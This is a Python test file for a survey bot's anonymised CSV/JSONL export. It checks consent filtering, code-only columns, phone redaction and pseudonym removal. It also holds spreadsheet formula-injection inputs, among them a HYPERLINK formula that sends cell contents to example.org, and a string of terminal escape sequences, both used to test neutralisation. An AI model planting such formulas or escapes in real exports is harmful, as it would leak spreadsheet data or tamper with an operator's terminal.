"""The anonymised export: one row per consented response, codes not wording, no pseudonym."""

from __future__ import annotations

import csv
import io
import json

from bot.admin.export import columns, export_text, spreadsheet_safe, write_csv
from tests.support import Harness
from tests.test_survey_flow import answer_all, begin


async def test_export_rows_are_codes_whatever_the_language(harness: Harness) -> None:
    swedish = harness.resident(4001, "sv")
    english = harness.resident(4002, "en")
    unfinished = harness.resident(4003, "sv")
    not_consented = harness.resident(4004, "sv")
    await begin(swedish, "sv")
    await answer_all(swedish)
    await swedish.say("Min berättelse, ring 0701234567")
    await begin(english, "en")
    await answer_all(english)
    await english.press("s:story")
    await begin(unfinished, "sv")
    await unfinished.press("s:frequency")
    await not_consented.command("start")
    await not_consented.press("lang:sv")

    survey = harness.services.survey
    repository = harness.services.surveys.repository
    rows = list(csv.DictReader(io.StringIO(await export_text(repository, survey, "csv"))))
    assert len(rows) == 3, "only consented responses are exported"
    first, second, third = rows
    assert [r["response"] for r in rows] == ["1", "2", "3"]
    assert first["language"] == "sv" and second["language"] == "en"
    for row in (first, second):
        assert row["state"] == "completed"
        assert row["agencies"] == "fk;skv" and row["errands"] == "letter;eservices"
        assert row["if_moved"] == "could_not_go" and row["survey_version"] == survey.version
    assert first["story_text"] == "Min berättelse, ring [telefon]" and first["story_language"] == "sv"
    assert second["story_text"] == ""
    assert third["state"] == "started" and third["frequency"] == "skipped" and third["errands"] == ""
    assert list(rows[0]) == columns(survey)
    pseudonyms = {harness.services.pseudonymize(uid) for uid in (4001, 4002, 4003)}
    text = await export_text(repository, survey, "jsonl")
    assert not any(p in text for p in pseudonyms)
    records = [json.loads(line) for line in text.splitlines()]
    assert records[0]["agencies"] == "fk;skv" and len(records) == 3


async def test_csv_for_excel_starts_with_a_bom(harness: Harness) -> None:
    buffer = io.StringIO()
    count = await write_csv(harness.services.surveys.repository, harness.services.survey, buffer, bom=True)
    assert count == 0 and buffer.getvalue().startswith("\ufeffresponse,")


FORMULAS = [
    '=HYPERLINK("https://example.org/?q="&A2&B2,"Klicka")',
    "+46 är riktnumret, inte en formel",
    "-1+1 blev fel",
    "@SUM(A1:A9)",
    "  =1+1 efter mellanslag",
    "＝1+1 med bred likhetstecken",
]


async def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(harness: Harness) -> None:
    for number, story in enumerate(FORMULAS):
        resident = harness.resident(4100 + number, "sv")
        await begin(resident, "sv")
        await answer_all(resident)
        await resident.say(story)
    survey = harness.services.survey
    repository = harness.services.surveys.repository
    rows = list(csv.DictReader(io.StringIO(await export_text(repository, survey, "csv"))))
    stored = [row["story_text"] for row in rows]
    assert len(stored) == len(FORMULAS)
    for cell in stored:
        # Every story reaches the sheet as text: an apostrophe first, then what was stored.
        assert cell.startswith("'"), cell
    assert stored[0] == "'" + FORMULAS[0]
    # JSON Lines is not opened by spreadsheets: there the story stays exactly as stored.
    text = await export_text(repository, survey, "jsonl")
    in_jsonl = [json.loads(line)["story_text"] for line in text.splitlines()]
    assert in_jsonl[0] == FORMULAS[0]
    assert ["'" + story for story in in_jsonl] == stored
    # Ordinary cells are untouched: codes, dates and the running number.
    assert rows[0]["response"] == "1" and rows[0]["agencies"] == "fk;skv"


def test_a_story_stored_with_terminal_escapes_reaches_the_csv_without_them() -> None:
    # Stories are cleaned on the way in; one stored earlier is cleaned on the way out too, so
    # `python -m bot export` cannot clear or recolour the operator's terminal.
    assert spreadsheet_safe("\x1b[2J\x1b[31mRöd text\x1b[0m") == "Röd text"
    assert spreadsheet_safe("\x1b[2J=1+1") == "'=1+1"
    assert spreadsheet_safe(12) == 12 and spreadsheet_safe("weekly") == "weekly"
